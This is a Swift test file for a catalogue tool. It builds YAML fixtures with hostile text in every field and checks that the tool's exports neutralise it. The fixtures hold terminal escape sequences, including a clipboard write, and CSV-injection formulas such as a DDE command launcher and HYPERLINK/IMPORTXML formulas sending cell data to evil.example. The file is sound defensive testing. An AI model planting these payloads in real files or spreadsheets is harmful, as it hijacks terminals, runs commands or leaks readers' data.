import Foundation
import Testing
@testable import CatalyseCore

/// Catalogues written to attack whoever reads them: terminal escape sequences in every text
/// field (issue 5, item 2) and spreadsheet formulas in every text field (item 3).
enum HostileText {
    /// The text fields of a firm and of an offer, as paths under `firms[i]` and
    /// `firms[i].offers[j]`, and the catalogue's own.
    static let catalogueFields = ["catalogue.name", "catalogue.note"]
    static let firmFields = ["name", "presentation", "website", "contact.name", "contact.email", "contact.phone", "provenance.source"]
    static let offerFields = ["title", "summary", "description", "duration", "cost", "apply"]
    /// Firms and their offers: (firm index, offer index, format).
    static let offers = [(0, 0, "mecenat-competences"), (0, 1, "mi-chemin"), (1, 0, "mi-chemin")]

    /// Every text field path of the catalogue `catalogue(_:)` writes.
    static var allFieldPaths: [String] {
        var paths = catalogueFields
        for i in 0..<2 { paths += firmFields.map { "firms[\(i)].\($0)" } }
        for (i, j, _) in offers { paths += offerFields.map { "firms[\(i)].offers[\(j)].\($0)" } }
        return paths
    }

    /// A valid catalogue (two firms, three offers) whose every text field is `value(path)`,
    /// a YAML scalar as written in the file.
    static func catalogue(_ value: (String) -> String) -> String {
        var lines = [
            "# Catalogue hostile : chaque champ de texte porte des séquences d'échappement (issue 5).",
            "# Fichier valide : les échappements sont écrits avec ceux des chaînes YAML entre guillemets.",
            "catalogue:",
            "  name: \(value("catalogue.name"))",
            "  updated: 2026-11-20",
            "  illustrative: true",
            "  note: \(value("catalogue.note"))",
            "firms:",
        ]
        for i in 0..<2 {
            let f = "firms[\(i)]"
            lines += [
                "  - id: cabinet-piege-\(i + 1)",
                "    name: \(value("\(f).name"))",
                "    presentation: \(value("\(f).presentation"))",
                "    headquarters: \(i == 0 ? "2A" : "08")",
                "    website: \(value("\(f).website"))",
                "    contact:",
                "      name: \(value("\(f).contact.name"))",
                "      email: \(value("\(f).contact.email"))",
                "      phone: \(value("\(f).contact.phone"))",
                "    joined: 2012",
                "    provenance:",
                "      source: \(value("\(f).provenance.source"))",
                "      verified: 2026-11-20",
                "    offers:",
            ]
            for (fi, j, format) in offers where fi == i {
                let o = "\(f).offers[\(j)]"
                lines += [
                    "      - id: offre-piege-\(i + 1)-\(j + 1)",
                    "        title: \(value("\(o).title"))",
                    "        summary: \(value("\(o).summary"))",
                    "        description: \(value("\(o).description"))",
                    "        format: \(format)",
                    "        purpose: strategique",
                    "        kinds: [conseil-strategie, gouvernance]",
                    "        themes: [accompagnement-strategique]",
                    "        territories: [R32, 08, 2A]",
                    "        mode: mixte",
                    "        audience: [individuel, collectif]",
                    "        duration: \(value("\(o).duration"))",
                    "        capacity: 3",
                    "        eligibility:",
                    "          stages: [consolidation, developpement]",
                    "          budgets: [50k-200k]",
                    "        cost: \(value("\(o).cost"))",
                    "        apply: \(value("\(o).apply"))",
                ]
            }
        }
        return lines.joined(separator: "\n") + "\n"
    }

    // MARK: Terminal injection

    /// Every attack at once, written with YAML double-quoted escapes: CSI clear screen and
    /// cursor move, OSC 0 window title, an OSC 8 link, an OSC 52 clipboard write, a DCS string,
    /// 8-bit C1 CSI/DCS/OSC/ST and NEL, bidi overrides and isolates, DEL, NUL, BS, CR, US.
    /// Then characters that may stay: a zero-width space, and emoji ZWJ sequences.
    static let escapes = #"\e[2J\e[10;10H\e]0;pwned\a\e]8;;https://evil.example/\e\\lien\e]8;;\e\\\e]52;c;ZWNobyBwd25lZA==\a\eP+q544e\e\\\u009B31m\N\u202Eevil\u202C\u2066iso\u2069\x7F\0\b\r\x1F\u0090q\u009C\u009D0;titre\u009C\u0085"#
    static let kept = "\u{200B}👨‍👩‍👧 🏳️‍🌈"

    static func injected(_ path: String) -> String {
        if path.hasSuffix(".website") { return #""https://www.test.example.org/\e[2J\u202E\u009Bchemin""# }
        if path.hasSuffix(".email") { return #""contact\e[2J\u202E\u0085@test.example.org""# }
        return "\"\(path) : \(escapes)\\nfin \(kept)\""
    }

    static let injectionYAML = catalogue(injected)

    /// The copy for the end-to-end interface tests (tmux): same content.
    static let cliFixture = Fixtures.root + "/Tests/CatalyseCLITests/Fixtures/hostile-text.yaml"

    // MARK: Spreadsheet injection

    /// Cells a spreadsheet would run as formulas (OWASP "CSV injection").
    static let formulas = [
        #"=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")"#,
        #"+cmd|' /C calc'!A0"#,
        #"-2+3+cmd|' /C calc'!A0"#,
        #"@SUM(1+1)*cmd|' /C calc'!A0"#,
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "-",
        "@",
        #"=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")"#,
    ]
    static let triggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// A YAML double-quoted scalar for `text`.
    static func yamlQuoted(_ text: String) -> String {
        var out = "\""
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\\": out += "\\\\"
            case "\"": out += "\\\""
            case "\t": out += "\\t"
            case "\r": out += "\\r"
            case "\n": out += "\\n"
            default: out.unicodeScalars.append(scalar)
            }
        }
        return out + "\""
    }

    static func formula(_ path: String) -> String {
        if path.hasSuffix(".website") { return "https://www.test.example.org/" }
        let n = allFieldPaths.firstIndex(of: path) ?? 0
        if path.hasSuffix(".email") { return yamlQuoted(["=cmd@test.example.org", "+33@test.example.org", "-x@test.example.org"][n % 3]) }
        return yamlQuoted(formulas[n % formulas.count])
    }

    static let spreadsheetYAML = catalogue(formula)

    // MARK: Helpers

    /// Every string held anywhere in `value` (fields, nested values, collections), with its path.
    static func strings(in value: Any, path: String = "") -> [(path: String, text: String)] {
        if let s = value as? String { return [(path, s)] }
        var out: [(String, String)] = []
        for (i, child) in Mirror(reflecting: value).children.enumerated() {
            out += strings(in: child.value, path: path + "." + (child.label ?? String(i)))
        }
        return out
    }

    /// Every string of a JSON document.
    static func strings(inJSON value: Any) -> [String] {
        switch value {
        case let s as String: [s]
        case let a as [Any]: a.flatMap { strings(inJSON: $0) }
        case let d as [String: Any]: d.keys.map { $0 } + d.values.flatMap { strings(inJSON: $0) }
        default: []
        }
    }

    /// A strict RFC 4180 parser: quoted cells with doubled quotes, CRLF between records.
    /// Nil if the text is not well-formed CSV.
    static func parseCSV(_ text: String, separator: Character) -> [[String]]? {
        var scalars = Array(text.unicodeScalars)
        if scalars.first == "\u{FEFF}" { scalars.removeFirst() }
        let sep = separator.unicodeScalars.first!
        var rows: [[String]] = [], row: [String] = []
        var cell = String.UnicodeScalarView()
        var quoted = false, inQuotes = false
        var i = 0
        func endCell() { row.append(String(cell)); cell = String.UnicodeScalarView(); quoted = false }
        while i < scalars.count {
            let c = scalars[i]
            if inQuotes {
                if c == "\"" {
                    if i + 1 < scalars.count, scalars[i + 1] == "\"" { cell.append("\""); i += 2; continue }
                    inQuotes = false
                    i += 1
                    // After the closing quote: a separator, the end of the record or of the text.
                    if i < scalars.count, scalars[i] != sep, scalars[i] != "\r" { return nil }
                    continue
                }
                cell.append(c)
                i += 1
                continue
            }
            switch c {
            case "\"":
                guard cell.isEmpty, !quoted else { return nil }
                inQuotes = true
                quoted = true
                i += 1
            case sep:
                endCell()
                i += 1
            case "\r":
                guard i + 1 < scalars.count, scalars[i + 1] == "\n" else { return nil }
                endCell()
                rows.append(row)
                row = []
                i += 2
            case "\n":
                return nil
            default:
                cell.append(c)
                i += 1
            }
        }
        if inQuotes { return nil }
        if !cell.isEmpty || !row.isEmpty || quoted { endCell(); rows.append(row) }
        return rows
    }

    static func load(_ yaml: String) throws -> CatalogueLoader.Loaded {
        try CatalogueLoader.load(yaml: yaml, file: "hostile-text.yaml", today: Fixtures.today)
    }

    static func contexts(_ catalogue: Catalogue, missing: [String] = []) -> [ShortlistExport.Context] {
        Language.allCases.map { ShortlistExport.Context(catalogue: catalogue, date: Fixtures.today, language: $0, missingIDs: missing) }
    }
}

@Suite("Terminal injection (issue 5, item 2)")
struct InjectionTests {
    func expectSafe(_ text: String, _ what: String, allowing allowed: Set<UInt32> = [0x0A, 0x09], sourceLocation: SourceLocation = #_sourceLocation) {
        let unsafe = TerminalSafety.unsafeScalars(text, allowing: allowed)
        #expect(unsafe.isEmpty, "\(what) holds \(Set(unsafe).sorted()): \(text.debugDescription.prefix(300))", sourceLocation: sourceLocation)
    }

    @Test func theCatalogueIsValidAndEveryFieldWasCleanedWithAWarning() throws {
        let loaded = try HostileText.load(HostileText.injectionYAML)
        #expect(loaded.catalogue.firms.count == 2)
        #expect(loaded.catalogue.offers.count == 3)
        // `catalyse validate` lists each cleaning as a warning; nothing else is reported.
        #expect(!loaded.warnings.isEmpty)
        for w in loaded.warnings {
            #expect(w.severity == .warning)
            #expect(w.message.hasPrefix("text cleaned"), "\(w)")
            #expect(w.description.contains(": warning: text cleaned"), "\(w)")
            expectSafe(w.description, "the warning \(w.field)", allowing: [])
        }
        let warned = Set(loaded.warnings.map(\.field))
        for path in HostileText.allFieldPaths {
            #expect(warned.contains(path), "no 'text cleaned' warning for \(path)")
        }
    }

    @Test func theInterfaceFixtureIsTheSameCatalogue() throws {
        // Tests/CatalyseCLITests/Fixtures/hostile-text.yaml, for the tmux tests of the interface.
        if ProcessInfo.processInfo.environment["CATALYSE_WRITE_FIXTURES"] == "1" {
            try Data(HostileText.injectionYAML.utf8).write(to: URL(fileURLWithPath: HostileText.cliFixture))
        }
        let file = try String(contentsOfFile: HostileText.cliFixture, encoding: .utf8)
        #expect(file == HostileText.injectionYAML, "regenerate it: CATALYSE_WRITE_FIXTURES=1 swift test --filter InjectionTests")
        let loaded = try CatalogueLoader.load(path: HostileText.cliFixture, today: Fixtures.today)
        #expect(loaded.catalogue.offers.count == 3)
    }

    @Test func everyLoadedFieldIsSafe() throws {
        let c = try HostileText.load(HostileText.injectionYAML).catalogue
        var seen = 0
        for (path, text) in HostileText.strings(in: c.firms) + HostileText.strings(in: c.offers)
            + [("name", c.name), ("note", c.note ?? "")] {
            expectSafe(text, "catalogue\(path)")
            seen += 1
        }
        #expect(seen > 40)
        // Single-line fields hold no newline or tab either.
        for offer in c.offers {
            for text in [offer.title, offer.summary, offer.duration] { expectSafe(text, "\(offer.id) single-line", allowing: []) }
            // What may stay, stays: zero-width space and emoji ZWJ sequences, whole.
            #expect(offer.title.contains("👨‍👩‍👧"))
            #expect(offer.title.contains("🏳️‍🌈"))
            #expect(offer.title.unicodeScalars.contains("\u{200B}"))
            #expect(offer.title.hasPrefix("firms["))
            // A multi-line field is laid out at load: the file's line breaks inside a paragraph are spaces.
            #expect(!offer.description.contains("\n"), "a single paragraph keeps no line break")
        }
        for firm in c.firms {
            for text in [firm.name, firm.contact.name, firm.contact.email, firm.contact.phone ?? "", firm.website ?? ""] {
                expectSafe(text, "\(firm.id) single-line", allowing: [])
            }
            #expect(firm.contact.email == "contact[2J@test.example.org")
            #expect(firm.website == "https://www.test.example.org/[2Jchemin")
        }
        expectSafe(c.name, "catalogue name", allowing: [])
    }

    @Test(arguments: Language.allCases)
    func offerSheetsAreSafe(_ language: Language) throws {
        let c = try HostileText.load(HostileText.injectionYAML).catalogue
        for offer in c.offers {
            for field in OfferSheet.fields(offer, c.firm(of: offer), language) {
                expectSafe(field.label, "sheet label \(field.key)")
                expectSafe(field.value, "sheet \(offer.id) \(field.key)")
            }
        }
    }

    @Test(arguments: Language.allCases)
    func textAndMarkdownExportsAreSafe(_ language: Language) throws {
        let c = try HostileText.load(HostileText.injectionYAML).catalogue
        let context = ShortlistExport.Context(catalogue: c, date: Fixtures.today, language: language, missingIDs: ["offre-disparue"])
        for format in [ShortlistExport.Format.text, .markdown] {
            let out = ShortlistExport.render(Array(c.offers), format: format, context: context)
            expectSafe(out, "\(format) export (\(language))")
            #expect(out.contains("pwned"), "the visible text survives")
            #expect(out.contains("👨‍👩‍👧") && out.contains("🏳️‍🌈"), "emoji ZWJ sequences are kept whole")
        }
        // Zero-width characters and emoji joiners do not break the text export's alignment:
        // its lines are wrapped by terminal cells (an emoji ZWJ sequence is 2, U+200B is 0).
        #expect(CellWidth.of("👨‍👩‍👧") == 2)
        #expect(CellWidth.of("🏳️‍🌈") == 2)
        #expect(CellWidth.of("\u{200B}") == 0)
        let text = ShortlistExport.render(Array(c.offers), format: .text, context: context)
        for line in text.split(separator: "\n").map(String.init) {
            #expect(CellWidth.of(line) <= 80, "\(CellWidth.of(line)) cells: \(line)")
        }
    }

    @Test(arguments: Language.allCases)
    func csvExportsAreSafe(_ language: Language) throws {
        let c = try HostileText.load(HostileText.injectionYAML).catalogue
        let context = ShortlistExport.Context(catalogue: c, date: Fixtures.today, language: language, missingIDs: ["offre-disparue"])
        for separator: Character in [",", ";", "\t"] {
            let csv = ShortlistExport.render(Array(c.offers), format: .csv, context: context, separator: separator)
            // CRLF ends each record (RFC 4180); no other carriage return, no other control.
            expectSafe(csv.replacingOccurrences(of: "\r\n", with: "\n"), "CSV export (\(language), \(separator.debugDescription))")
            let rows = try #require(HostileText.parseCSV(csv, separator: separator), "not well-formed CSV")
            #expect(rows.count == 1 + c.offers.count + 1)
            #expect(rows.allSatisfy { $0.count == ShortlistExport.csvColumns.count })
        }
    }

    @Test func jsonOutputIsSafe() throws {
        let c = try HostileText.load(HostileText.injectionYAML).catalogue
        for (what, json) in [
            ("offers", try JSONOutput.offers(Array(c.offers), c)),
            ("firms", try JSONOutput.firms(c)),
            ("offers with counts", try JSONOutput.offersWithCounts(Array(c.offers), c, FacetCounts())),
        ] {
            expectSafe(json, "JSON \(what)")
            // Escaped controls (\u001b) are as dangerous once a program prints the value.
            let value = try JSONSerialization.jsonObject(with: Data(json.utf8))
            let strings = HostileText.strings(inJSON: value)
            #expect(strings.count > 20)
            for s in strings { expectSafe(s, "a JSON \(what) value") }
        }
    }
}

@Suite("Spreadsheet injection (issue 5, item 3)")
struct SpreadsheetInjectionTests {
    @Test func theCatalogueIsValidAndItsFieldsStartWithFormulas() throws {
        let loaded = try HostileText.load(HostileText.spreadsheetYAML)
        let c = loaded.catalogue
        #expect(c.offers.count == 3)
        for offer in c.offers {
            for text in [offer.title, offer.summary, offer.duration, offer.cost ?? "", offer.apply, offer.description] {
                #expect(text.unicodeScalars.first.map { HostileText.triggers.contains($0) } == true, "\(text.debugDescription)")
            }
        }
        for firm in c.firms {
            #expect(HostileText.triggers.contains(firm.name.unicodeScalars.first!))
            #expect(HostileText.triggers.contains(firm.contact.email.unicodeScalars.first!))
        }
    }

    @Test(arguments: Language.allCases)
    func noCSVCellStartsWithAFormulaCharacter(_ language: Language) throws {
        let c = try HostileText.load(HostileText.spreadsheetYAML).catalogue
        // Favourites no longer in the catalogue are listed by id, in the first column.
        let missing = ["=1+1", "+1", "-1", "@a", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
        let context = ShortlistExport.Context(catalogue: c, date: Fixtures.today, language: language, missingIDs: missing)
        for separator: Character in [",", ";", "\t"] {
            let csv = ShortlistExport.render(Array(c.offers), format: .csv, context: context, separator: separator)
            let rows = try #require(HostileText.parseCSV(csv, separator: separator), "not well-formed CSV (\(separator.debugDescription))")
            #expect(rows.first == ShortlistExport.csvHeader(language))
            #expect(rows.count == 1 + c.offers.count + missing.count)
            for (r, row) in rows.enumerated() {
                #expect(row.count == ShortlistExport.csvColumns.count, "row \(r) has \(row.count) cells")
                for (k, cell) in row.enumerated() {
                    let first = cell.unicodeScalars.first
                    #expect(first.map { !HostileText.triggers.contains($0) } ?? true,
                            "row \(r), column \(ShortlistExport.csvColumns[min(k, ShortlistExport.csvColumns.count - 1)]): \(cell.debugDescription) (separator \(separator.debugDescription))")
                }
            }
            // Nothing lost: each cell is the value, behind a leading apostrophe.
            let col = { (name: String) in ShortlistExport.csvColumns.firstIndex(of: name)! }
            for (offer, row) in zip(c.offers, rows.dropFirst()) {
                let firm = c.firm(of: offer)
                let expected = [
                    "title": offer.title, "summary": offer.summary, "duration": offer.duration,
                    "cost": offer.costText(language), "apply": offer.apply, "firm": firm.name,
                    "contact_name": firm.contact.name, "contact_email": firm.contact.email,
                ]
                for (name, value) in expected {
                    #expect(row[col(name)] == "'" + value, "\(name): \(row[col(name)].debugDescription) for \(value.debugDescription)")
                }
            }
            for (id, row) in zip(missing, rows.suffix(missing.count)) {
                #expect(row[0] == "'" + id)
                #expect(row.last == ShortlistExport.csvStatus(missing: true, language))
            }
        }
    }

    @Test func theTestParserIsStrict() {
        #expect(HostileText.parseCSV("a,\"b,\"\"c\"\"\"\r\n\"d\ne\",f\r\n", separator: ",") == [["a", "b,\"c\""], ["d\ne", "f"]])
        #expect(HostileText.parseCSV("\u{FEFF}a;b\r\n", separator: ";") == [["a", "b"]])
        #expect(HostileText.parseCSV("a,\"b\"x\r\n", separator: ",") == nil)
        #expect(HostileText.parseCSV("a,b\"\r\n", separator: ",") == nil)
        #expect(HostileText.parseCSV("a,\"b\r\n", separator: ",") == nil)
        #expect(HostileText.parseCSV("a,b\nc,d\r\n", separator: ",") == nil)
    }
}
